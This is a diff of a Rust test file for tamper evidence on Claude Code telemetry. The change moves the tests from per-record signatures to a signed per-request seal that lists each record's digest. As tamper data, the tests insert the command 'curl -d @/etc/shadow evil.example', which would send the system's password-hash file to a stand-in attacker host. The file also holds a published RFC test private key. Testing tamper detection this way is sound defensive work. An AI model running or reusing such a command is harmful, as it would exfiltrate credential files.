@@ -1,16 +1,19 @@
 //! Tamper evidence (README "Tamper evidence") on real Claude Code telemetry:
-//! every Claude log record of a capture is signed, and the signature holds
-//! over the record as the exporter stores it (re-read here with this
-//! suite's own flattening, not the library's), breaks when one stored field
-//! changes, and names that field.
+//! every Claude log record of a capture is listed in the request's seal,
+//! the seal's signature holds, and each record's digest in it is the digest
+//! of the record as the exporter stores it (re-read here with this suite's
+//! own reading of the exporter's ECS mode, not the library's): it changes
+//! when one stored field changes or one is added.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 mod common;
 
 use common::*;
-use cowork_ecs::signature::{self, FIELD_FIELDS, FIELD_KEY_ID, FIELD_SIGNATURE};
+use cowork_ecs::seal::{self, FIELD_CHAIN, FIELD_ITEMS, FIELD_SESSIONS};
+use cowork_ecs::signature::{self, FIELD_SIGNATURE};
 use cowork_ecs::{Error, Transformer};
 use serde_json::{Value as Json, json};
+use std::collections::BTreeMap;
 
 /// RFC 8032's test key 1, as PKCS#8 PEM.
 const KEY: &str = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g\n-----END PRIVATE KEY-----\n";
@@ -21,15 +24,34 @@ fn key_file(name: &str, text: &str) -> std::path::PathBuf {
     path
 }
 
-/// The stored document's fields: the attributes under their stored names,
-/// `@timestamp` in nanoseconds and the string body as `message`.
-fn stored(record: &cowork_ecs::otlp::LogRecord) -> serde_json::Map<String, Json> {
-    let mut doc = flat_attributes(record);
-    for (from, to) in signature::ECS_LOG_RENAMES {
-        if let Some(v) = doc.remove(*from) {
-            doc.insert((*to).to_owned(), v);
-        }
+/// The stored document of a record under `resource` (ECS mode): the
+/// resource's attributes as the exporter renames them (those of Claude
+/// Code's resource), the record's under their stored names, its
+/// `data_stream.*`, `@timestamp` in nanoseconds, the string body as
+/// `message`.
+fn stored(
+    resource: &cowork_ecs::otlp::Resource,
+    record: &cowork_ecs::otlp::LogRecord,
+) -> BTreeMap<String, Json> {
+    let mut doc = BTreeMap::new();
+    for kv in &resource.attributes {
+        let v = value_json(kv.value.as_ref().unwrap().value.as_ref().unwrap());
+        let name = match kv.key.as_str() {
+            "host.arch" => "host.architecture",
+            "os.type" => "host.os.platform",
+            "os.version" => "host.os.version",
+            other => other,
+        };
+        doc.insert(name.to_owned(), v);
     }
+    for (k, v) in flat_attributes(record) {
+        let k = (signature::ECS_LOG_RENAMES.iter())
+            .find(|(from, _)| *from == k)
+            .map_or(k, |(_, to)| (*to).to_owned());
+        doc.insert(k, v);
+    }
+    doc.entry("data_stream.type".into())
+        .or_insert(json!("logs"));
     doc.insert("@timestamp".into(), json!(record.time_unix_nano));
     if let Some(cowork_ecs::otlp::Value::StringValue(s)) =
         record.body.as_ref().and_then(|b| b.value.as_ref())
@@ -39,52 +61,93 @@ fn stored(record: &cowork_ecs::otlp::LogRecord) -> serde_json::Map<String, Json>
     doc
 }
 
-/// The verifier's reading: `(signature holds, fields whose digest differs)`.
-fn check(doc: &serde_json::Map<String, Json>, doc_id: &str) -> (bool, Vec<String>) {
-    let public = signature::public_key_from_pem(KEY).unwrap();
-    assert_eq!(doc[FIELD_KEY_ID], json!(signature::key_id(&public)));
-    let mut fields = Vec::new();
-    let mut changed = Vec::new();
-    for entry in doc[FIELD_FIELDS].as_array().unwrap() {
-        let (name, digest) = entry.as_str().unwrap().rsplit_once(':').unwrap();
-        let value = doc.get(name).cloned().unwrap_or(Json::Null);
-        if signature::field_digest(name, &value) != digest {
-            changed.push(name.to_owned());
-        }
-        fields.push((name.to_owned(), value));
-    }
-    let sig = doc[FIELD_SIGNATURE].as_str().unwrap();
-    (signature::verify(&public, doc_id, &fields, sig), changed)
+/// A seal record's stored fields (its attributes, `@timestamp` in ns).
+fn seal_fields(record: &cowork_ecs::otlp::LogRecord) -> BTreeMap<String, Json> {
+    let mut fields: BTreeMap<String, Json> = flat_attributes(record).into_iter().collect();
+    fields.insert("@timestamp".into(), json!(record.time_unix_nano));
+    fields
 }
 
 #[test]
-fn every_claude_record_is_signed_as_stored_and_a_changed_field_is_named() {
+fn every_claude_record_is_sealed_as_stored_and_a_change_or_an_added_field_shows() {
     let path = key_file("signing", KEY);
     let config = json!({"signing": {"key_file": path}}).to_string();
     let t = Transformer::from_json_config(config.as_bytes()).unwrap();
     let mut req = read_request(&testdata().join("captures/bash_ok/logs.json"));
     t.transform_logs_request(&mut req, None);
     std::fs::remove_file(&path).unwrap();
-    let records = records(&req);
-    assert!(records.len() >= 5);
-    for record in records {
-        let mut doc = stored(record);
-        let id = doc.remove("elasticsearch.document_id").unwrap();
-        let id = id.as_str().unwrap();
-        assert_eq!(check(&doc, id), (true, vec![]), "{doc:#?}");
-        assert!(
-            !check(&doc, "another-id").0,
-            "the signature is bound to the document id"
-        );
-        let field = if doc.contains_key("process.command_line") {
-            "process.command_line"
-        } else {
-            "event.action"
-        };
-        let mut edited = doc.clone();
-        edited.insert(field.into(), json!("curl -d @/etc/shadow evil.example"));
-        assert_eq!(check(&edited, id), (false, vec![field.to_owned()]));
+
+    let (seals, claude): (Vec<_>, Vec<_>) = req.resource_logs.iter().partition(|r| {
+        r.resource.as_ref().unwrap().attributes[0]
+            .value
+            .as_ref()
+            .unwrap()
+            .value
+            == Some(cowork_ecs::otlp::Value::StringValue(
+                cowork_ecs::ecs::SEAL_SERVICE_NAME.into(),
+            ))
+    });
+    assert_eq!(seals.len(), 1, "one seal for the request");
+    let seal = seal_fields(&seals[0].scope_logs[0].log_records[0]);
+    let public = signature::public_key_from_pem(KEY).unwrap();
+    let key_id = signature::key_id(&public);
+    let keys = |id: &str| (id == key_id).then_some(&public);
+    assert_eq!(seal::verify_seal(&seal, keys), Ok(key_id.clone()));
+    let mut forged = seal.clone();
+    forged.insert(FIELD_SESSIONS.into(), json!(["another-session"]));
+    assert_eq!(
+        seal::verify_seal(&forged, keys),
+        Err(seal::SealProblem::BadSignature)
+    );
+
+    let listed: BTreeMap<String, String> = (seal[FIELD_ITEMS].as_array().unwrap().iter())
+        .map(|e| {
+            let (id, digest, session) = seal::parse_item(e.as_str().unwrap()).unwrap();
+            assert_eq!(session, Some(0), "one session");
+            (id.to_owned(), digest.to_owned())
+        })
+        .collect();
+    let mut count = 0;
+    for resource in &claude {
+        for record in resource.scope_logs.iter().flat_map(|s| &s.log_records) {
+            count += 1;
+            let mut doc = stored(resource.resource.as_ref().unwrap(), record);
+            assert_eq!(
+                doc[FIELD_CHAIN], seal[FIELD_CHAIN],
+                "the record names its chain"
+            );
+            assert!(
+                !doc.contains_key(FIELD_SIGNATURE),
+                "no signature per record"
+            );
+            let id = doc["elasticsearch.document_id"]
+                .as_str()
+                .unwrap()
+                .to_owned();
+            let digest = seal::hex(&seal::item_digest(&doc));
+            assert_eq!(listed.get(&id), Some(&digest), "{doc:#?}");
+            let field = if doc.contains_key("process.command_line") {
+                "process.command_line"
+            } else {
+                "event.action"
+            };
+            doc.insert(field.into(), json!("curl -d @/etc/shadow evil.example"));
+            assert_ne!(
+                seal::hex(&seal::item_digest(&doc)),
+                digest,
+                "a changed field"
+            );
+            doc.remove(field);
+            doc.insert("user.name".into(), json!("someone"));
+            assert_ne!(
+                seal::hex(&seal::item_digest(&doc)),
+                digest,
+                "an added field"
+            );
+        }
     }
+    assert!(count >= 5);
+    assert_eq!(listed.len(), count, "every record, once");
 }
 
 #[test]
